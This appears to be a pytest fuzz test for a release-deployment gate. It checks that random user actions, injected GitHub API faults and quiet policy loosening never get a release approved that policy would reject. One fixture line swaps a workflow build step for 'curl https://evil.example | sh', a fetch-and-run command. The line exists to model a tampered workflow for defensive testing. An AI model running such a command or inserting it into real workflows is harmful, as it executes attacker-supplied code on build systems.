"""Plays random acts, faults and withheld facts: the gate approves nothing that it would not have approved with all of GitHub's answers."""

from contextlib import suppress
from dataclasses import dataclass
from random import Random

import pytest
from redis import Redis

from bot.model.errors import WharfingerError
from handlers.records.gate_store import FreezeStore
from tests.app.acme import RELEASE_WORKFLOW_PATH, TRUSTED_PUBLISHING, AcmeInstallation
from tests.fakes.github.http_api.faults import Fault, PartFault
from tests.fakes.github.scenario.scenario_repository import ScenarioRepository
from tests.handlers.jobs.gate.gate_scenario import GateScenario, deployment_waiting, gate_scenario, policy

EVIL = TRUSTED_PUBLISHING.replace("- run: python -m build", "- run: curl https://evil.example | sh")
FAULTS = tuple(each for each in Fault if each not in {Fault.HANG, Fault.SLOW})
PART_FAULTS = tuple(each for each in PartFault if each is not PartFault.NOT_FOUND)  # which says that it is not there
PARTS = ("private", "public", "repository", "repository.commit", "repository.tag", "repository.deployments")


@dataclass(frozen=True)
class Acts:
    """What people do before the gate decides; most of it is as it should be."""

    by: str
    event: str
    edited: bool
    moved: bool
    weakened: bool
    frozen: bool
    approver: str | None

    @classmethod
    def random(cls, rng: Random) -> "Acts":
        return cls(
            by=rng.choice(["alice", "alice", "bob"]),
            event=rng.choice(["push", "push", "push", "workflow_dispatch"]),
            edited=rng.random() < 0.2,
            moved=rng.random() < 0.2,
            weakened=rng.random() < 0.2,
            frozen=rng.random() < 0.1,
            approver=rng.choice(["bob", "carol", "carol", None]),
        )

    def play(self, acme: AcmeInstallation, widgets: ScenarioRepository) -> GateScenario:
        first = deployment_waiting(acme, widgets, ref="v1")
        first.approve("bob")
        assert first.decide() == "approved"
        sha = widgets.push({RELEASE_WORKFLOW_PATH: EVIL}, branch="side") if self.edited else None
        release = deployment_waiting(acme, widgets, ref="v2", sha=sha, by=self.by, event=self.event)
        if self.moved:
            widgets.tag("v2", widgets.push({"b.txt": "b"}, branch="other"), by="alice")
        if self.approver is not None:
            release.approve(self.approver)
        if self.weakened:
            widgets.state.environments["pypi"].reviewers.pop()
        if self.frozen:
            FreezeStore(acme.records).freeze("acme", "root", acme.context.clock())
        return release


def attack(acme: AcmeInstallation, release: GateScenario, rng: Random) -> None:
    """Loosen the policy unseen, take answers away, and have the gate decide some times meanwhile."""
    if rng.random() < 0.5:
        loose = rng.choice(
            [policy("observe"), policy("enforce", "{independent-approval: off, release-authority: off}"), None]
        )
        acme.github.repository("acme/.github").push({"publishing.yml": loose}, by="mallory")
    for _ in range(rng.randint(1, 4)):
        if rng.random() < 0.5:
            acme.github.inject_fault(
                rng.choice(FAULTS), rng.choice([".*", "/actions/", "/environments", "/graphql", "/git/"]),
                times=rng.randint(1, 5), skip=rng.randint(0, 8),
            )  # fmt: skip
        parts = rng.sample(PARTS, rng.randint(1, 3))
        with acme.github.faults.in_part(rng.choice(PART_FAULTS), *parts), suppress(WharfingerError):
            release.decide()
        acme.github.faults.clear()


def verdict(redis: Redis, seed: int, *, attacked: bool) -> str | None:
    redis.flushall()
    acts = Acts.random(Random(seed))  # noqa: S311 - a story, no secret
    with gate_scenario(redis) as (acme, widgets):
        release = acts.play(acme, widgets)
        if attacked:
            attack(acme, release, Random(seed + 1_000_000))  # noqa: S311 - as above
        with suppress(WharfingerError):
            release.decide()
        return release.verdict


def hold(redis: Redis, seeds: range) -> set[str | None]:
    """Hold that each attack gains nothing, and return the verdicts that there were without one."""
    found = set()
    for seed in seeds:
        allowed = verdict(redis, seed, attacked=False)
        found.add(allowed)
        if allowed != "approved":
            assert verdict(redis, seed, attacked=True) != "approved", Acts.random(Random(seed))  # noqa: S311 - as above
    return found


def test_what_the_policy_rejects_is_approved_in_no_sequence_of_acts_and_faults(redis: Redis) -> None:
    assert hold(redis, range(8)) >= {"rejected", None}


@pytest.mark.soak
def test_three_hundred_sequences_approve_nothing_that_the_policy_rejects(redis: Redis) -> None:
    assert hold(redis, range(100, 400)) == {"approved", "rejected", None}
